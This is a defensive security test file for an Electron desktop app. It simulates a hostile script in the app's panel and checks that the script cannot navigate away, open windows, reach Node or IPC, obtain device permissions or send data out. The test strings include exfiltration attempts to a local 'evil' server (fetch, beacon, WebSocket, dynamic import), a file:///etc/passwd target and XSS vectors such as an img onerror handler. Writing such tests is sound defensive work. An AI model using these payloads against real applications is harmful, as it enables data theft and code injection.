import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { callApi } from './support/api-client.ts';
import { type DrivenPorthole, drivePorthole, findPage } from './support/porthole-app.ts';
import { TestDisplay } from './support/test-display.ts';

// What a page of the agent's own windows could try if somebody had got a script into it.
let display: TestDisplay;
let porthole: DrivenPorthole;
let panel: Page;
let evil: Server;
let evilUrl = '';
const visited: string[] = [];

beforeAll(async () => {
  display = await TestDisplay.start(1280, 800);
  porthole = await drivePorthole({ display });
  panel = porthole.panel;
  evil = createServer((request, response) => {
    visited.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.end('<title>evil</title>');
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await porthole?.stop();
  await display?.stop();
  evil?.close();
});

afterEach(() => {
  expect(visited).toEqual([]);
  expect(panel.url()).toBe(`${porthole.url}/`);
});

/** Lets the page do something, and then everything that it may have led to. */
async function attempt(script: string): Promise<unknown> {
  const result = await panel.evaluate(script);
  // A navigation that were allowed would have begun by the time that the page has answered the next questions.
  for (let round = 0; round < 5; round += 1)
    await panel.evaluate('new Promise((resolve) => setTimeout(resolve, 50))');
  return result;
}

const windowCount = () => porthole.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length);

describe('a hostile script in the panel', () => {
  it.each([
    ['location', (url: string) => `location.href = '${url}'`],
    [
      'a link',
      (url: string) =>
        `{ const a = document.createElement('a'); a.href = '${url}'; document.body.append(a); a.click(); a.remove(); }`,
    ],
    [
      'a form',
      (url: string) =>
        `{ const f = document.createElement('form'); f.action = '${url}'; document.body.append(f); f.submit(); f.remove(); }`,
    ],
    [
      'a meta tag',
      (url: string) =>
        `{ const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${url}'; document.head.append(m); m.remove(); }`,
    ],
    [
      'a frame',
      (url: string) =>
        `{ const f = document.createElement('iframe'); f.src = '${url}'; document.body.append(f); setTimeout(() => f.remove(), 100); }`,
    ],
    [
      'an object',
      (url: string) =>
        `{ const o = document.createElement('object'); o.data = '${url}'; document.body.append(o); setTimeout(() => o.remove(), 100); }`,
    ],
  ])('goes nowhere else by %s', async (_, script) => {
    for (const target of [evilUrl, 'file:///etc/passwd', 'data:text/html,evil', 'chrome://gpu/'])
      await attempt(script(target));
    expect(await panel.getByRole('button', { name: /Screen Share/ }).isVisible()).toBe(true);
  });

  it.each(['_blank', '_self', 'other', 'width=100'])('opens no window (%s)', async (name) => {
    const before = await windowCount();
    // A blank page has nothing to show and nobody to tell; a page may blank itself in many ways.
    const others = name === '_self' ? [] : ['about:blank', `${porthole.url}/`];
    for (const target of [evilUrl, 'file:///etc/passwd', ...others]) {
      const opened = await attempt(`window.open('${target}', '${name}') === null`);
      if (name !== '_self') expect(opened).toBe(true);
    }
    expect(await windowCount()).toBe(before);
  });

  it('tells nobody else what it sees', async () => {
    const results = await attempt(`(async () => {
      const tried = [];
      const attempt = (name, work) => Promise.resolve().then(work).then(() => tried.push(name), () => undefined);
      await attempt('fetch', () => fetch('${evilUrl}/fetch'));
      await attempt('beacon', () => { if (!navigator.sendBeacon('${evilUrl}/beacon')) throw 0; });
      await attempt('picture', () => new Promise((resolve, reject) => {
        const image = new Image(); image.onload = resolve; image.onerror = reject; image.src = '${evilUrl}/picture';
      }));
      await attempt('socket', () => new Promise((resolve, reject) => {
        const socket = new WebSocket('${evilUrl.replace('http', 'ws')}/socket');
        socket.onopen = resolve; socket.onerror = reject;
      }));
      await attempt('events', () => new Promise((resolve, reject) => {
        const source = new EventSource('${evilUrl}/events');
        source.onopen = resolve; source.onerror = reject;
      }));
      await attempt('import', () => import('${evilUrl}/module.js'));
      await attempt('worker', () => new Promise((resolve, reject) => {
        const worker = new Worker('data:text/javascript,postMessage(1)');
        worker.onmessage = resolve; worker.onerror = reject;
      }));
      return tried;
    })()`);
    // A beacon says only that it was queued; that nobody was visited is looked at after each test.
    expect((results as string[]).filter((name) => name !== 'beacon')).toEqual([]);
  });

  it('runs nothing that came as text', async () => {
    const ran = await attempt(`(async () => {
      window.ran = [];
      const holder = document.createElement('div');
      document.body.append(holder);
      holder.innerHTML = '<img src=x onerror="window.ran.push(1)"><svg onload="window.ran.push(2)"></svg><a href="javascript:window.ran.push(3)">x</a>';
      holder.querySelector('a').click();
      const script = document.createElement('script');
      script.textContent = 'window.ran.push(4)';
      document.body.append(script);
      await new Promise((resolve) => setTimeout(resolve, 200));
      holder.remove(); script.remove();
      return window.ran;
    })()`);
    expect(ran).toEqual([]);
  });

  it('gets no permission', async () => {
    const granted = await attempt(`(async () => {
      const granted = [];
      const attempt = (name, work) => Promise.race([
        Promise.resolve().then(work).then((value) => { if (value !== false) granted.push(name); }, () => undefined),
        new Promise((resolve) => setTimeout(resolve, 2000)),
      ]);
      await Promise.all([
        attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true })),
        attempt('microphone', () => navigator.mediaDevices.getUserMedia({ audio: true })),
        attempt('screen', () => navigator.mediaDevices.getDisplayMedia({ video: true })),
        attempt('place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))),
        attempt('notifications', async () => (await Notification.requestPermission()) === 'granted'),
        attempt('clipboard', () => navigator.clipboard.readText()),
        attempt('midi', () => navigator.requestMIDIAccess({ sysex: true })),
        attempt('fonts', async () => (await window.queryLocalFonts()).length > 0),
        attempt('files', () => window.showOpenFilePicker()),
        attempt('usb', () => navigator.usb.requestDevice({ filters: [] })),
        attempt('serial', () => navigator.serial.requestPort()),
        attempt('hid', async () => (await navigator.hid.requestDevice({ filters: [] })).length > 0),
        attempt('bluetooth', () => navigator.bluetooth.requestDevice({ acceptAllDevices: true })),
        attempt('idle', async () => (await IdleDetector.requestPermission()) === 'granted'),
        attempt('persist', () => navigator.storage.persist()),
        attempt('full screen', () => document.documentElement.requestFullscreen()),
        attempt('pointer', () => document.body.requestPointerLock()),
      ]);
      return granted;
    })()`);
    expect(granted).toEqual([]);
  });

  it('finds no way into the machine: no Node, no bridge, no channel', async () => {
    const found = await attempt(`Object.entries({
      require: typeof require, process: typeof process, module: typeof module, Buffer: typeof Buffer, global: typeof global,
      electron: typeof window.electron, ipcRenderer: typeof window.ipcRenderer, porthole: typeof window.porthole,
      opener: window.opener === null ? 'undefined' : 'object',
    }).filter(([, type]) => type !== 'undefined').map(([name]) => name)`);
    expect(found).toEqual([]);
    const channels = await porthole.app.evaluate(({ ipcMain }) => ipcMain.eventNames().map(String));
    expect(channels.filter((name) => name !== 'error')).toEqual([]);
    const guest = await attempt(`(() => {
      const view = document.createElement('webview');
      view.src = '${evilUrl}'; document.body.append(view); view.remove();
      return typeof view.loadURL;
    })()`);
    expect(guest).toBe('undefined');
  });

  it('has every window sandboxed and isolated, the one that captures apart', async () => {
    await callApi(porthole.url, 'POST', '/api/screen_share/start', {});
    await findCaptureWindow();
    const windows = await porthole.app.evaluate(({ webContents }) =>
      webContents.getAllWebContents().map((contents) => {
        const { sandbox, contextIsolation, nodeIntegration, webSecurity, webviewTag } = (
          contents as unknown as { getLastWebPreferences(): Record<string, unknown> }
        ).getLastWebPreferences();
        return {
          url: contents.getURL(),
          sandbox,
          contextIsolation,
          nodeIntegration,
          webSecurity,
          webviewTag,
        };
      }),
    );
    expect(windows.length).toBeGreaterThanOrEqual(2);
    for (const window of windows) {
      const captures = window.url === 'https://capture.porthole.invalid/';
      expect(window).toMatchObject({
        sandbox: !captures,
        contextIsolation: true,
        nodeIntegration: false,
        webSecurity: true,
        webviewTag: false,
      });
    }
  });
});

describe('forged messages to the main process', () => {
  it('from the capture window’s page get through no bridge, and from its frames to nobody', async () => {
    const capture = await findCaptureWindow();
    const reachable = await capture.evaluate(`Object.entries({
      ipcRenderer: typeof window.ipcRenderer, require: typeof require, process: typeof process,
    }).filter(([, type]) => type !== 'undefined').map(([name]) => name)`);
    expect(reachable).toEqual([]);
    // A page cannot be framed there, and cannot leave.
    await capture.evaluate(`{
      const frame = document.createElement('iframe'); frame.src = '${evilUrl}'; document.body.append(frame);
      location.href = '${evilUrl}';
    }`);
    await capture.evaluate('new Promise((resolve) => setTimeout(resolve, 200))');
    expect(capture.url()).toBe('https://capture.porthole.invalid/');
  });
});

function findCaptureWindow(): Promise<Page> {
  return findPage(porthole.app, (url) => url.hostname === 'capture.porthole.invalid');
}
